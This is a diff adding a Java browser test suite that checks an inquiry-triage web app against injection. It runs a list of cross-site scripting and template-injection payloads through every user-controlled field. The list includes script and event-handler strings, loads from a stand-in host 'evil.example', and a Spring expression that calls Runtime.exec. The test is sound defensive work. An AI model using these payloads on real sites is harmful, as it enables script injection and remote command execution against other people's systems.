@@ -1,0 +1,97 @@
+package org.inquirytriage.review.web;
+
+import java.net.URLEncoder;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.List;
+
+import org.inquirytriage.inquiry.BodyText;
+import org.inquirytriage.inquiry.Explanation;
+import org.inquirytriage.inquiry.Explanation.Attachment;
+import org.inquirytriage.inquiry.Explanation.Mark;
+import org.inquirytriage.inquiry.Explanation.Source;
+import org.inquirytriage.inquiry.InquiryId;
+import org.inquirytriage.triage.Evidence.Layer;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+/** Scripts in subject, body, quoted text, attachment names and evidence do nothing. */
+class InjectionTests extends BrowserTest {
+
+	private final List<String> strangeRequests = new ArrayList<>();
+
+	private final List<String> complaints = new ArrayList<>();
+
+	@BeforeEach
+	void enter() {
+		this.strangeRequests.clear();
+		this.complaints.clear();
+		signIn();
+		this.page.onRequest((request) -> {
+			if (!request.url().startsWith("http://localhost:")) {
+				this.strangeRequests.add(request.url());
+			}
+		});
+		this.page.onConsoleMessage((message) -> {
+			if (message.text().contains("Content Security Policy")) {
+				this.complaints.add(message.text());
+			}
+		});
+		this.page.onDialog((dialog) -> {
+			this.complaints.add(dialog.message());
+			dialog.dismiss();
+		});
+	}
+
+	@ParameterizedTest
+	@ValueSource(strings = { "<script>window.attacked=1</script>", "<img src=x onerror=window.attacked=1>",
+			"<svg/onload=window.attacked=1>", "\"><script src=//evil.example/x.js></script>",
+			"'\" onmouseover=window.attacked=1 autofocus onfocus=window.attacked=1 x=\"",
+			"</title><script>window.attacked=1</script>",
+			"</textarea></style></script><script>window.attacked=1</script>",
+			"<iframe srcdoc='<script>parent.attacked=1</script>'></iframe>", "<base href=//evil.example/>",
+			"<meta http-equiv=refresh content='0;url=//evil.example/'>",
+			"<link rel=stylesheet href=//evil.example/a.css>", "<style>@import '//evil.example/a.css';</style>",
+			"<form action=//evil.example/><button>Claim it</button></form>",
+			"<a href=\"javascript:window.attacked=1\">Open</a>", "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
+			"<div data-hx-on:load=\"window.attacked=1\">x</div>", "<object data=//evil.example/x.swf></object>",
+			"<details open ontoggle=window.attacked=1>", "<math><mi xlink:href=\"javascript:window.attacked=1\">",
+			"<body onload=window.attacked=1>", "<video><source onerror=window.attacked=1></video>",
+			"${T(java.lang.Runtime).getRuntime().exec('id')}", "__${7*7}__::.x", "[[${7*7}]] [(${7*7})] {{7*7}} #{7*7}",
+			"<th:block th:utext=\"${7*7}\">", "\u202Egnp.exe\u2066 <b>bold</b>",
+			"\u0001\u0008<script>window.attacked=1</script>", "<scr<script>ipt>window.attacked=1</scr</script>ipt>",
+			"%3Cscript%3Ewindow.attacked=1%3C/script%3E", "&lt;script&gt;window.attacked=1&lt;/script&gt;",
+			"<!--><script>window.attacked=1</script-->" })
+	void doNothing(String attack) {
+		InquiryId id = this.cases.held("S " + attack, "unsure",
+				new BodyText("B " + attack, "Q " + attack, "G " + attack, attack), explanation(attack));
+		for (String path : List.of("/?words=" + encoded(attack), "/inquiries/" + id)) {
+			go(path);
+			this.page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)");
+			this.page
+				.evaluate("document.querySelectorAll('main *').forEach(e => e.dispatchEvent(new Event('mouseover')))");
+			assertThat(this.page.evaluate("window.attacked")).isNull();
+			assertThat(
+					this.page.locator("main script, main iframe, main object, main style, main svg, main img").count())
+				.isZero();
+		}
+		assertThat(this.page.locator(".letter .text").first().textContent()).contains("B " + attack.substring(0, 1));
+		assertThat(this.page.content()).doesNotContain("49 49", ">49<");
+		assertThat(this.strangeRequests).isEmpty();
+		assertThat(this.complaints).isEmpty();
+	}
+
+	private static Explanation explanation(String attack) {
+		return new Explanation(
+				List.of(new Mark(Layer.CLINICAL, attack, attack, Source.BODY, 2, 2 + attack.length() / 2)), List.of(),
+				List.of(), List.of(new Attachment(attack + ".pdf", attack, 10)));
+	}
+
+	private static String encoded(String text) {
+		return URLEncoder.encode(text, StandardCharsets.UTF_8);
+	}
+
+}
